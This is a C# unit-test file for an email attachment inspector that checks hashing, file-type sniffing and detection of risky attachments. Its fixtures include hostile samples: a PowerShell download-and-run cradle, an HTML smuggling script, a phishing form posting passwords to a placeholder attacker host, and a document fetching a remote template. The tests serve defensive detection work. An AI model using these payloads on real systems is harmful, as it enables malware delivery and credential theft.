using System.Security.Cryptography;
using ChatOpsBot.Analysis.EmailForensics;
using ChatOpsBot.Analysis.EmailForensics.Attachments;
using ChatOpsBot.Analysis.Common;
using ChatOpsBot.TestSupport;

namespace ChatOpsBot.Analysis.Tests.EmailForensics.Attachments;

public class AttachmentInspectorTests
{
    private static AttachmentReport Inspect(string? name, string? declared, byte[] content, AttachmentInspectionOptions? options = null)
    {
        using var stream = new MemoryStream(content);
        return AttachmentInspector.Inspect(name, declared, stream, options);
    }

    private static string[] Codes(AttachmentReport report) => report.Findings.Select(finding => finding.Code).ToArray();

    [Fact]
    public void HashesOfAbcAreTheKnownDigests()
    {
        AttachmentReport report = Inspect("abc.txt", "text/plain", TestFiles.Text("abc"));

        report.Md5.ShouldBe("900150983cd24fb0d6963f7d28e17f72");
        report.Sha1.ShouldBe("a9993e364706816aba3e25717850c26c9cd0d89d");
        report.Sha256.ShouldBe("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
        report.Size.ShouldBe(3);
        report.SniffedContentType.ShouldBe("text/plain");
        report.Findings.ShouldBeEmpty();
    }

    [Fact]
    public void HashesSpanChunkBoundariesOnShortReadingStreams()
    {
        byte[] content = new byte[(3 * 1024 * 1024) + 17];
        new Random(42).NextBytes(content);
        using var stream = new ChunkedStream(content);

        AttachmentReport report = AttachmentInspector.Inspect("blob.bin", null, stream);

        report.Size.ShouldBe(content.Length);
        report.Sha256.ShouldBe(Convert.ToHexStringLower(SHA256.HashData(content)));
        // The independent oracle for the identifiers threat-intel services index files by.
#pragma warning disable CA5350, CA5351
        report.Sha1.ShouldBe(Convert.ToHexStringLower(SHA1.HashData(content)));
        report.Md5.ShouldBe(Convert.ToHexStringLower(MD5.HashData(content)));
#pragma warning restore CA5350, CA5351
    }

    [Fact]
    public void ZeroLengthAttachmentsHaveTheEmptyDigestsAndAFinding()
    {
        AttachmentReport report = Inspect("empty.pdf", "application/pdf", []);

        report.Size.ShouldBe(0);
        report.Sha256.ShouldBe("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
        report.Md5.ShouldBe("d41d8cd98f00b204e9800998ecf8427e");
        Codes(report).ShouldBe(["attachment.empty"]);
    }

    public static TheoryData<byte[], string> Signatures() => new()
    {
        { TestFiles.PortableExecutable(), "application/vnd.microsoft.portable-executable" },
        { [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0], "application/x-elf" },
        { [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1], "application/x-mach-binary" },
        { TestFiles.Text("%PDF-1.7\n1 0 obj"), "application/pdf" },
        { TestFiles.Text("Rar!\u001A\u0007\u0001\u0000"), "application/vnd.rar" },
        { [(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4], "application/x-7z-compressed" },
        { [0x1F, 0x8B, 8, 0], "application/gzip" },
        { TestFiles.Iso(), "application/x-iso9660-image" },
        { TestFiles.Shortcut(), "application/x-ms-shortcut" },
        { TestFiles.Text("{\\rtf1\\ansi hello}"), "application/rtf" },
        { [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A, 0], "image/png" },
        { [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10], "image/jpeg" },
        { TestFiles.Text("GIF89a\u0001\u0000"), "image/gif" },
        { TestFiles.Text("<!DOCTYPE html><html><body>hi</body></html>"), "text/html" },
        { TestFiles.Text("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>"), "image/svg+xml" },
        { TestFiles.Text("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"), "application/javascript" },
        { TestFiles.Text("Set o = CreateObject(\"WScript.Shell\")\nDim x\n"), "text/vbscript" },
        { TestFiles.Text("Please let me know which function works for you."), "text/plain" },

        // Markers in any case, in ASCII text (searched ignoring case) and in text with other characters (lower-cased first).
        { TestFiles.Text("  <!DOCTYPE HTML><HTML><BODY>Caf\u00e9</BODY></HTML>"), "text/html" },
        { TestFiles.Text("<?XML version=\"1.0\"?>\n<SVG xmlns=\"http://www.w3.org/2000/svg\"></SVG>"), "image/svg+xml" },
        { TestFiles.Text("Set o = CREATEOBJECT(\"WScript.Shell\")\nDIM x ' na\u00efve\n"), "text/vbscript" },
        { TestFiles.Text("$ENV:TEMP; IEX (New-Object Net.WebClient).DownloadString('http://x')"), "text/x-powershell" },

        // Mail headers count at the start of the first 20 lines, the 20th standing for the rest of the text.
        { TestFiles.Text(string.Concat(Enumerable.Repeat("x\n", 18)) + "From: a@example.com\nSubject: hi\n"), "message/rfc822" },
        { TestFiles.Text(string.Concat(Enumerable.Repeat("x\n", 19)) + "From: a@example.com\nSubject: hi\n"), "text/plain" },
        { [0x00, 0x01, 0x02, 0x03, 0xFE], "application/octet-stream" },
    };

    [Theory]
    [MemberData(nameof(Signatures))]
    public void ContentTypeIsSniffedFromTheBytes(byte[] content, string expected)
    {
        Inspect(null, null, content).SniffedContentType.ShouldBe(expected);
    }

    [Fact]
    public void ExecutablesAreFlaggedByContent()
    {
        AttachmentReport report = Inspect("setup.bin", "application/octet-stream", TestFiles.PortableExecutable());

        report.Findings.ShouldContain(finding => finding.Code == "attachment.executable" && finding.Severity == FindingSeverity.High);
    }

    [Theory]
    [InlineData("run.js")]
    [InlineData("payload.vbs")]
    [InlineData("x.SCR")]
    [InlineData("tool.ps1")]
    public void ScriptsAndExecutablesAreFlaggedByExtension(string name)
    {
        Codes(Inspect(name, null, TestFiles.Text("hello"))).ShouldContain("attachment.executable");
    }

    [Theory]
    [InlineData("invoice.pdf.exe")]
    [InlineData("invoice.pdf          .exe")]
    [InlineData("scan.jpg.js")]
    [InlineData("statement.docx.html")]
    public void DoubleExtensionsAreFlagged(string name)
    {
        Codes(Inspect(name, null, TestFiles.Text("x"))).ShouldContain("attachment.double-extension");
    }

    [Theory]
    [InlineData("report.final.pdf")]
    [InlineData("archive.tar.gz")]
    [InlineData("v1.2.txt")]
    public void OrdinaryDottedNamesAreNotDoubleExtensions(string name)
    {
        Codes(Inspect(name, null, TestFiles.Text("x"))).ShouldNotContain("attachment.double-extension");
    }

    [Fact]
    public void RightToLeftOverrideNamesAreFlaggedWithTheRealExtension()
    {
        AttachmentReport report = Inspect("invoice\u202Efdp.exe", null, TestFiles.PortableExecutable());

        Finding finding = report.Findings.Where(finding => finding.Code == "attachment.rtl-override").ShouldHaveSingleItem();
        finding.Severity.ShouldBe(FindingSeverity.Critical);
        finding.Reason.ShouldContain(".exe");
    }

    [Fact]
    public void DeclaredTypeThatHidesAnExecutableIsAHighSeverityMismatch()
    {
        AttachmentReport report = Inspect("invoice.pdf", "application/pdf", TestFiles.PortableExecutable());

        Finding[] mismatches = report.Findings.Where(finding => finding.Code == "attachment.type-mismatch").ToArray();
        mismatches.Length.ShouldBe(2);
        mismatches.ShouldAllBe(finding => finding.Severity == FindingSeverity.High);
        mismatches[0].Reason.ShouldContain("application/pdf");
        mismatches[1].Reason.ShouldContain(".pdf");
    }

    [Fact]
    public void HarmlessMislabelsAreMediumSeverityMismatches()
    {
        AttachmentReport report = Inspect("photo.png", "image/png", TestFiles.Text("%PDF-1.4"));

        report.Findings.Where(finding => finding.Code == "attachment.type-mismatch").ShouldAllBe(finding => finding.Severity == FindingSeverity.Medium);
        Codes(report).ShouldContain("attachment.type-mismatch");
    }

    [Theory]
    [InlineData("doc.pdf", "application/octet-stream")]
    [InlineData("doc.pdf", null)]
    [InlineData("doc.pdf", "application/pdf; name=\"doc.pdf\"")]
    public void MatchingOrGenericDeclarationsAreNotMismatches(string name, string? declared)
    {
        Codes(Inspect(name, declared, TestFiles.Text("%PDF-1.4\n"))).ShouldNotContain("attachment.type-mismatch");
    }

    [Fact]
    public void OfficeDocumentsDeclaredAsZipAreNotMismatches()
    {
        AttachmentReport report = Inspect("letter.docx", "application/zip", TestFiles.Ooxml(withMacros: false));

        report.SniffedContentType.ShouldBe("application/vnd.openxmlformats-officedocument.wordprocessingml.document");
        report.Findings.ShouldBeEmpty();
    }

    [Fact]
    public void OoxmlWithAVbaProjectIsMacroEnabled()
    {
        AttachmentReport report = Inspect("letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", TestFiles.Ooxml(withMacros: true));

        report.SniffedContentType.ShouldBe("application/vnd.ms-word.document.macroEnabled.12");
        report.Findings.ShouldContain(finding => finding.Code == "attachment.macro-office" && finding.Severity == FindingSeverity.High);
        report.ArchiveMembers.Select(member => member.Name).ShouldContain("word/vbaProject.bin");
    }

    [Fact]
    public void OoxmlWithAnExternalTemplateIsFlagged()
    {
        byte[] docx = TestFiles.Zip(
            ("[Content_Types].xml", TestFiles.Text("<Types/>")),
            ("word/document.xml", TestFiles.Text("<w:document/>")),
            ("word/_rels/settings.xml.rels", TestFiles.Text(
                "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));

        Codes(Inspect("a.docx", null, docx)).ShouldContain("attachment.external-template");
    }

    [Fact]
    public void LegacyOfficeWithAMacrosStorageIsMacroEnabled()
    {
        AttachmentReport report = Inspect("old.doc", "application/msword", TestFiles.CompoundFile("WordDocument", "Macros", "VBA", "_VBA_PROJECT"));

        report.SniffedContentType.ShouldBe("application/msword");
        Codes(report).ShouldContain("attachment.macro-office");
    }

    [Fact]
    public void LegacyOfficeWithoutMacrosIsNotFlagged()
    {
        AttachmentReport report = Inspect("book.xls", "application/vnd.ms-excel", TestFiles.CompoundFile("Workbook", "\u0005SummaryInformation"));

        report.SniffedContentType.ShouldBe("application/vnd.ms-excel");
        report.Findings.ShouldBeEmpty();
    }

    [Fact]
    public void OutlookMessagesAreRecognisedFromTheirStreamNames()
    {
        Inspect("fw.msg", null, TestFiles.CompoundFile("__substg1.0_0037001F", "__properties_version1.0")).SniffedContentType.ShouldBe("application/vnd.ms-outlook");
    }

    [Fact]
    public void PasswordProtectedOfficeDocumentsAreFlagged()
    {
        Codes(Inspect("secret.docx", null, TestFiles.CompoundFile("EncryptionInfo", "EncryptedPackage"))).ShouldContain("attachment.encrypted-document");
    }

    [Fact]
    public void DiskImagesAndShortcutsAreFlagged()
    {
        Codes(Inspect("invoice.iso", null, TestFiles.Iso())).ShouldContain("attachment.disk-image");
        Codes(Inspect("invoice.lnk", null, TestFiles.Shortcut())).ShouldContain("attachment.shortcut");
    }

    [Fact]
    public void HtmlSmugglingIsFlagged()
    {
        const string Html = """
            <html><body><script>
            var b = atob("TVqQAAMAAAAEAAAA");
            var bytes = new Uint8Array(b.length);
            var blob = new Blob([bytes], {type: 'octet/stream'});
            var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click();
            </script></body></html>
            """;

        AttachmentReport report = Inspect("invoice.html", "text/html", TestFiles.Text(Html));

        Codes(report).ShouldContain("attachment.html-smuggling");
        Codes(report).ShouldContain("attachment.html");
    }

    [Theory]
    [InlineData("")]
    [InlineData(" <!-- caf\u00e9 -->")]
    public void SmugglingCodeIsFoundInAnyCase(string tail)
    {
        string html = "<HTML><BODY><SCRIPT>var b = ATOB(\"TVqQ\"); var u = new UINT8ARRAY(b.length);"
            + " var a = document.createElement('a'); a.href = URL.CREATEOBJECTURL(new BLOB([u])); a.click();</SCRIPT>"
            + "<FORM><INPUT TYPE=password></FORM></BODY></HTML>" + tail;

        AttachmentReport report = Inspect("invoice.html", "text/html", TestFiles.Text(html));

        Codes(report).ShouldContain("attachment.html-smuggling");
        Codes(report).ShouldContain("attachment.credential-form");
    }

    [Fact]
    public void HtmlWithoutSmugglingCodeIsOnlyFlaggedAsHtml()
    {
        AttachmentReport report = Inspect("note.html", "text/html", TestFiles.Text("<html><body><p>Hello</p><script>console.log(1)</script></body></html>"));

        Codes(report).ShouldBe(["attachment.html"]);
    }

    [Fact]
    public void LocalPhishingPagesReportTheirCredentialFormAndItsTarget()
    {
        const string Html = "<html><body><form action=\"https://collect.evil.example/post.php\" method=post>"
            + "<input name=u><input type=\"PASSWORD\" name=p></form></body></html>";

        AttachmentReport report = Inspect("Secure_Message.htm", "text/html", TestFiles.Text(Html));

        Codes(report).ShouldContain("attachment.credential-form");
        report.Urls.ShouldHaveSingleItem().Url.ShouldBe("https://collect.evil.example/post.php");
    }

    [Fact]
    public void ThrowsOnlyForANullStream()
    {
        Should.Throw<ArgumentNullException>(() => AttachmentInspector.Inspect("x", null, null!));
    }
}
